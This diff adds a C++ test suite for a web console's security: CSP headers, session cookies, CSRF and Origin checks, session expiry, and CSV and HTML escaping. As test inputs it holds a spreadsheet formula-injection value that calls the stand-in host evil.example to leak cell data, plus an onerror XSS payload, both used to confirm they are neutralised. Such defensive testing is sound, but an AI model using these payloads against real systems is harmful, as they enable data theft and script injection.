@@ -1,0 +1,317 @@
+// The web console against the real `appban server` on loopback (docs/console.md): its files and
+// security headers, signing in with a pasted token for a session cookie, that cookie on the admin
+// API, the CSRF and Origin refusals, the session's end (sign-out, idle limit, revoked token).
+#include <gtest/gtest.h>
+
+#include <chrono>
+#include <filesystem>
+#include <fstream>
+#include <optional>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "appban/common/json.h"
+#include "support/server_process.h"
+#include "support/test_support.h"
+
+namespace appban {
+namespace {
+
+using testing::ServerProcess;
+using testing::TempDir;
+using Headers = std::vector<std::pair<std::string, std::string>>;
+
+std::string Lower(std::string text) {
+  for (char& c : text) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+  return text;
+}
+
+std::string HeaderOf(const net::HttpResponse& response, const std::string& name) {
+  for (const auto& [key, value] : response.headers) {
+    if (Lower(key) == Lower(name)) return value;
+  }
+  return "";
+}
+
+class ConsoleTest : public ::testing::Test {
+ protected:
+  void Start(const std::string& toml = "", std::vector<std::string> extra = {}) {
+    if (!toml.empty()) {
+      auto config = dir_.path() / "server.toml";
+      std::ofstream(config) << toml;
+      extra.insert(extra.end(), {"--config", config.string()});
+    }
+    auto server = ServerProcess::Start(dir_.path() / "data", extra);
+    ASSERT_TRUE(server) << "server did not start";
+    server_.emplace(std::move(*server));
+  }
+
+  net::HttpResponse Send(const std::string& method, const std::string& path, const std::string& body = "",
+                         const Headers& headers = {}) {
+    auto client = server_->Client();
+    auto response = client.Request(method, path, body, headers);
+    EXPECT_TRUE(response.ok()) << response.status().ToString();
+    return response.ok() ? *response : net::HttpResponse{};
+  }
+
+  // The origin the browser names: the server's own URL.
+  std::string Origin() const { return server_->url(); }
+
+  struct Session {
+    std::string cookie;  // "appban_session=..."
+    std::string csrf;
+    net::HttpResponse response;
+  };
+  Session SignIn(const std::string& token) {
+    Session session;
+    session.response = Send("POST", "/v1/session", Json{{"token", token}}.dump(),
+                            {{"content-type", "application/json"}, {"origin", Origin()}});
+    std::string set_cookie = HeaderOf(session.response, "set-cookie");
+    session.cookie = set_cookie.substr(0, set_cookie.find(';'));
+    Json body = Json::parse(session.response.body, nullptr, false);
+    if (body.is_object()) session.csrf = StringOr(body, "csrf_token");
+    return session;
+  }
+
+  net::HttpResponse WithSession(const Session& session, const std::string& method, const std::string& path,
+                                const std::string& body = "", Headers extra = {}) {
+    extra.emplace_back("cookie", session.cookie);
+    if (!body.empty()) extra.emplace_back("content-type", "application/json");
+    return Send(method, path, body, extra);
+  }
+
+  Json Rule(const std::string& id) {
+    return Json{{"id", id},
+                {"title", "Ban " + id},
+                {"targets", Json::array({Json{{"kind", "deb"}, {"value", id}}})},
+                {"action", "remove"},
+                {"rationale", "unacceptable risk"},
+                {"authority", "CIO"}};
+  }
+
+  TempDir dir_;
+  std::optional<ServerProcess> server_;
+};
+
+TEST_F(ConsoleTest, ThePageAndItsFilesComeWithStrictHeadersAndValidators) {
+  Start();
+  for (const auto& [path, type] :
+       std::vector<std::pair<std::string, std::string>>{{"/", "text/html; charset=utf-8"},
+                                                        {"/app.js", "text/javascript; charset=utf-8"},
+                                                        {"/style.css", "text/css; charset=utf-8"}}) {
+    SCOPED_TRACE(path);
+    net::HttpResponse response = Send("GET", path);
+    EXPECT_EQ(response.status, 200);
+    EXPECT_EQ(HeaderOf(response, "content-type"), type);
+    std::string csp = HeaderOf(response, "content-security-policy");
+    for (const char* directive : {"default-src 'self'", "script-src 'self'", "object-src 'none'",
+                                  "frame-ancestors 'none'", "base-uri 'none'"}) {
+      EXPECT_NE(csp.find(directive), std::string::npos) << csp;
+    }
+    EXPECT_EQ(csp.find("unsafe-inline"), std::string::npos) << csp;
+    EXPECT_EQ(HeaderOf(response, "x-frame-options"), "DENY");
+    EXPECT_EQ(HeaderOf(response, "x-content-type-options"), "nosniff");
+    EXPECT_EQ(HeaderOf(response, "referrer-policy"), "no-referrer");
+    std::string etag = HeaderOf(response, "etag");
+    ASSERT_FALSE(etag.empty());
+    net::HttpResponse again = Send("GET", path, "", {{"if-none-match", etag}});
+    EXPECT_EQ(again.status, 304);
+    EXPECT_TRUE(again.body.empty());
+  }
+  // The page loads nothing from elsewhere and runs no inline script.
+  net::HttpResponse index = Send("GET", "/");
+  EXPECT_EQ(index.body.find("http://"), std::string::npos);
+  EXPECT_EQ(index.body.find("https://"), std::string::npos);
+  EXPECT_EQ(index.body.find("<script>"), std::string::npos);
+  EXPECT_EQ(Send("GET", "/nothing.js").status, 404);
+  EXPECT_EQ(Send("POST", "/").status, 405);
+}
+
+TEST_F(ConsoleTest, APastedTokenBecomesAStrictCookieThatAuthenticatesTheAdminApi) {
+  Start();
+  // Without a session, the console's page still loads, but the API does not answer.
+  EXPECT_EQ(Send("GET", "/v1/session").status, 401);
+  Session bad = SignIn("t-0000000000000000." + std::string(64, 'a'));
+  EXPECT_EQ(bad.response.status, 401) << bad.response.body;
+  EXPECT_TRUE(HeaderOf(bad.response, "set-cookie").empty());
+
+  Session session = SignIn(server_->admin_token());
+  ASSERT_EQ(session.response.status, 201) << session.response.body;
+  std::string set_cookie = HeaderOf(session.response, "set-cookie");
+  for (const char* flag : {"; HttpOnly", "; Secure", "; SameSite=Strict", "; Path=/", "; Max-Age=1800"}) {
+    EXPECT_NE(set_cookie.find(flag), std::string::npos) << set_cookie;
+  }
+  EXPECT_EQ(HeaderOf(session.response, "cache-control"), "no-store");
+  EXPECT_EQ(session.csrf.size(), 64u);
+  // The cookie holds no secret: the token pasted is not in it.
+  EXPECT_EQ(set_cookie.find(server_->admin_token()), std::string::npos);
+
+  net::HttpResponse who = WithSession(session, "GET", "/v1/admin/whoami");
+  ASSERT_EQ(who.status, 200) << who.body;
+  Json me = Json::parse(who.body);
+  EXPECT_EQ(me["role"], "admin") << me.dump();
+
+  // A change with the CSRF token and the console's Origin goes through, and the audit chain names
+  // the person, the method "session" and the token the session was made from.
+  net::HttpResponse proposed = WithSession(session, "POST", "/v1/admin/rules", Rule("console-app").dump(),
+                                           {{"x-csrf-token", session.csrf}, {"origin", Origin()}});
+  ASSERT_EQ(proposed.status, 201) << proposed.body;
+  net::HttpResponse audit = WithSession(session, "GET", "/v1/admin/audit?limit=1000");
+  ASSERT_EQ(audit.status, 200);
+  bool found = false;
+  const Json log = Json::parse(audit.body);
+  for (const Json& entry : log["entries"]) {
+    if (entry.dump().find("console-app") == std::string::npos) continue;
+    found = true;
+    EXPECT_EQ(entry["identity"]["method"], "session") << entry.dump();
+    EXPECT_EQ(entry["identity"]["channel"], "console") << entry.dump();
+    EXPECT_FALSE(StringOr(entry["identity"], "token_id").empty()) << entry.dump();
+  }
+  EXPECT_TRUE(found) << audit.body;
+
+  // GET /v1/session names the user, gives the same CSRF token and renews the cookie.
+  net::HttpResponse current = WithSession(session, "GET", "/v1/session");
+  ASSERT_EQ(current.status, 200) << current.body;
+  EXPECT_EQ(Json::parse(current.body)["csrf_token"], session.csrf);
+  EXPECT_NE(HeaderOf(current, "set-cookie").find("HttpOnly"), std::string::npos);
+}
+
+TEST_F(ConsoleTest, StateChangesWithoutTheCsrfTokenOrFromAnotherOriginAreRefused) {
+  Start();
+  Session session = SignIn(server_->admin_token());
+  ASSERT_EQ(session.response.status, 201);
+  std::string body = Rule("csrf-app").dump();
+  struct Case {
+    const char* what;
+    Headers headers;
+  };
+  std::vector<Case> cases = {
+      {"no CSRF token", {{"origin", Origin()}}},
+      {"a wrong CSRF token", {{"origin", Origin()}, {"x-csrf-token", std::string(64, '0')}}},
+      {"another session's CSRF token", {{"origin", Origin()}, {"x-csrf-token", SignIn(server_->admin_token()).csrf}}},
+      {"another Origin", {{"origin", "https://evil.example"}, {"x-csrf-token", session.csrf}}},
+      {"no Origin", {{"x-csrf-token", session.csrf}}},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.what);
+    net::HttpResponse refused = WithSession(session, "POST", "/v1/admin/rules", body, c.headers);
+    EXPECT_EQ(refused.status, 403) << refused.body;
+    EXPECT_EQ(Json::parse(refused.body)["error"]["code"], "csrf") << refused.body;
+  }
+  // Nothing was proposed.
+  EXPECT_EQ(WithSession(session, "GET", "/v1/admin/rules/csrf-app").status, 404);
+  // Signing out needs the token too (no other site may sign the user out), then clears the cookie.
+  EXPECT_EQ(WithSession(session, "DELETE", "/v1/session", "", {{"origin", Origin()}}).status, 403);
+  net::HttpResponse out =
+      WithSession(session, "DELETE", "/v1/session", "", {{"origin", Origin()}, {"x-csrf-token", session.csrf}});
+  EXPECT_EQ(out.status, 204);
+  EXPECT_NE(HeaderOf(out, "set-cookie").find("appban_session=; Max-Age=0"), std::string::npos);
+  // A session cookie made by another server (or edited) is not a session here.
+  Session forged = session;
+  forged.cookie = "appban_session=s1.7b7d." + std::string(64, 'a');
+  EXPECT_EQ(WithSession(forged, "GET", "/v1/admin/whoami").status, 401);
+}
+
+TEST_F(ConsoleTest, ASessionEndsWhenIdleAndWhenItsTokenIsRevoked) {
+  Start("[console]\nsession_idle_seconds = 2\nsession_max_seconds = 3600\n");
+  Session idle = SignIn(server_->admin_token());
+  ASSERT_EQ(idle.response.status, 201);
+  EXPECT_EQ(WithSession(idle, "GET", "/v1/admin/whoami").status, 200);
+  std::this_thread::sleep_for(std::chrono::milliseconds(2500));
+  net::HttpResponse expired = WithSession(idle, "GET", "/v1/admin/whoami");
+  EXPECT_EQ(expired.status, 401);
+  EXPECT_NE(expired.body.find("inactivity"), std::string::npos) << expired.body;
+
+  // A second token for the same person; a session made from it ends when it is revoked.
+  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
+  net::HttpResponse minted = Send("POST", "/v1/admin/tokens", R"({"name":"laptop","role":"auditor"})", admin);
+  ASSERT_EQ(minted.status, 201) << minted.body;
+  Json token = Json::parse(minted.body);
+  Session session = SignIn(StringOr(token, "token"));
+  ASSERT_EQ(session.response.status, 201) << session.response.body;
+  net::HttpResponse who = WithSession(session, "GET", "/v1/admin/whoami");
+  ASSERT_EQ(who.status, 200);
+  // The session carries the role of the token it was made from, not more.
+  net::HttpResponse weak = WithSession(session, "POST", "/v1/admin/groups", R"({"name":"g1"})",
+                                       {{"x-csrf-token", session.csrf}, {"origin", Origin()}});
+  EXPECT_EQ(weak.status, 403) << weak.body;
+  EXPECT_EQ(Json::parse(weak.body)["error"]["code"], "forbidden");
+  ASSERT_EQ(Send("POST", "/v1/admin/tokens/" + StringOr(token, "id") + "/revoke", "{}", admin).status, 200);
+  net::HttpResponse revoked = WithSession(session, "GET", "/v1/admin/whoami");
+  EXPECT_EQ(revoked.status, 401);
+  EXPECT_NE(revoked.body.find("revoked"), std::string::npos) << revoked.body;
+}
+
+TEST_F(ConsoleTest, CsvExportsDefuseFormulasThatDevicesSent) {
+  Start();
+  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
+  net::HttpResponse tokens = Send("POST", "/v1/admin/enrollment-tokens", R"({"count":1})", admin);
+  ASSERT_EQ(tokens.status, 201) << tokens.body;
+  std::string enrolment = StringOr(Json::parse(tokens.body)["tokens"][0], "token");
+  // A device names itself; its host name is whatever it says.
+  Json enroll{{"token", enrolment},
+              {"hostname", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
+              {"platform", "linux"},
+              {"agent_version", "1.0"}};
+  net::HttpResponse enrolled = Send("POST", "/v1/enroll", enroll.dump(), {{"content-type", "application/json"}});
+  ASSERT_EQ(enrolled.status, 201) << enrolled.body;
+
+  Session session = SignIn(server_->admin_token());
+  ASSERT_EQ(session.response.status, 201);
+  net::HttpResponse devices = WithSession(session, "GET", "/v1/admin/exports/devices.csv");
+  ASSERT_EQ(devices.status, 200) << devices.body;
+  EXPECT_EQ(HeaderOf(devices, "content-type"), "text/csv; charset=utf-8");
+  EXPECT_NE(HeaderOf(devices, "content-disposition").find("attachment"), std::string::npos);
+  EXPECT_EQ(devices.body.rfind("id,hostname,platform,source,", 0), 0u) << devices.body;
+  EXPECT_NE(devices.body.find(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",linux,agent,"),
+            std::string::npos)
+      << devices.body;
+  EXPECT_EQ(devices.body.find(",=HYPERLINK"), std::string::npos) << devices.body;
+  EXPECT_EQ(devices.body.find(",\"=HYPERLINK"), std::string::npos) << devices.body;
+
+  net::HttpResponse audit = WithSession(session, "GET", "/v1/admin/exports/audit.csv");
+  ASSERT_EQ(audit.status, 200);
+  EXPECT_EQ(audit.body.rfind("seq,at,actor,action,object,identity,hash\r\n", 0), 0u) << audit.body.substr(0, 200);
+  net::HttpResponse compliance = WithSession(session, "GET", "/v1/admin/exports/compliance.csv");
+  ASSERT_EQ(compliance.status, 200) << compliance.body;
+  EXPECT_EQ(compliance.body.rfind("rule_id,action,first_published_at,targeted,", 0), 0u) << compliance.body;
+  // Without a session or token there is no export.
+  EXPECT_EQ(Send("GET", "/v1/admin/exports/devices.csv").status, 401);
+}
+
+// The console in a real browser: Debian's chromium, headless, driven by puppeteer-core
+// (tests/console/browser.mjs; scripts/setup.sh --test installs both). Plain HTTP on loopback, which
+// browsers treat as a secure context, so the Secure cookie is kept as it would be over TLS.
+TEST_F(ConsoleTest, ChromiumSignsInSeesTheApiNumbersAndShowsHostileTextAsText) {
+  const std::filesystem::path tools = std::filesystem::path(APPBAN_SOURCE_DIR) / "tests" / "console";
+  ASSERT_TRUE(std::filesystem::exists(tools / "node_modules" / "puppeteer-core"))
+      << "puppeteer-core is not installed in " << tools << ": run scripts/setup.sh --test";
+  ASSERT_TRUE(std::filesystem::exists("/usr/bin/chromium")) << "chromium is missing: run scripts/setup.sh --test";
+  Start("", {"--insecure-plain-http"});
+  ASSERT_EQ(server_->url().rfind("http://127.0.0.1:", 0), 0u) << server_->url();
+  const std::string hostile = "<img src=x onerror=\"window.__appbanXss=1\">";
+  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
+  Json rule = Rule("hostile-title");
+  rule["title"] = hostile;
+  ASSERT_EQ(Send("POST", "/v1/admin/rules", rule.dump(), admin).status, 201);
+  net::HttpResponse tokens = Send("POST", "/v1/admin/enrollment-tokens", R"({"count":1})", admin);
+  ASSERT_EQ(tokens.status, 201) << tokens.body;
+  Json enroll{{"token", StringOr(Json::parse(tokens.body)["tokens"][0], "token")},
+              {"hostname", hostile},
+              {"platform", "linux"},
+              {"agent_version", "1.0"}};
+  ASSERT_EQ(Send("POST", "/v1/enroll", enroll.dump(), {{"content-type", "application/json"}}).status, 201);
+
+  const std::filesystem::path shots = dir_.path() / "screenshots";
+  std::filesystem::create_directories(shots);
+  testing::CommandResult run =
+      testing::RunCommand({"timeout", "180", "node", (tools / "browser.mjs").string(), server_->url(),
+                           server_->admin_token(), "hostile-title", hostile, shots.string()});
+  EXPECT_EQ(run.exit_code, 0) << run.out << run.err;
+  EXPECT_NE(run.out.find("ok: the devices page shows the hostile host name as text"), std::string::npos) << run.out;
+  EXPECT_TRUE(std::filesystem::exists(shots / "console-overview.png"));
+}
+
+}  // namespace
+}  // namespace appban
